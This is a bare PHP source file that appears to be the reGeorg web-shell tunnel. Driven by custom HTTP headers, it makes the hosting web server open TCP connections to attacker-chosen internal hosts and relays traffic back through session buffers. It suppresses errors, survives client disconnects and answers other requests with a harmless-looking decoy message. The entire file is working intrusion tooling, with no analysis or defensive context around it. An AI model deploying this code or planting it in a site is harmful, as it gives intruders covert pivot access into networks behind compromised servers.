<?php
error_reporting(E_ERROR | E_PARSE);
$h = function_exists('getallheaders') ? getallheaders() : array();
$cmd = isset($h['X-Cmd']) ? strtoupper($h['X-Cmd']) : '';
if ($cmd === 'CONNECT') {
    $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
    if (!@socket_connect($s, $h['X-Target'], (int)$h['X-Port'])) { header('X-STATUS: FAIL'); exit; }
    socket_set_nonblock($s);
    session_start();
    $_SESSION['run'] = true; $_SESSION['wb'] = ''; $_SESSION['rb'] = '';
    session_write_close();
    header('X-STATUS: OK');
    ignore_user_abort(true);
    while (true) {
        session_start(); $run = $_SESSION['run']; $w = $_SESSION['wb']; $_SESSION['wb'] = ''; session_write_close();
        if (!$run) { break; }
        if ($w !== '') { socket_write($s, $w); }
        $r = @socket_read($s, 8192);
        if ($r !== false && $r !== '') { session_start(); $_SESSION['rb'] .= $r; session_write_close(); }
        usleep(20000);
    }
    socket_close($s);
} elseif ($cmd === 'FORWARD') {
    session_start(); $_SESSION['wb'] .= file_get_contents('php://input'); session_write_close();
    header('X-STATUS: OK');
} elseif ($cmd === 'READ') {
    session_start(); echo $_SESSION['rb']; $_SESSION['rb'] = ''; session_write_close();
    header('X-STATUS: OK');
} elseif ($cmd === 'DISCONNECT') {
    session_start(); $_SESSION['run'] = false; session_write_close();
} else {
    echo 'Georg says, \'All seems fine\'';
}
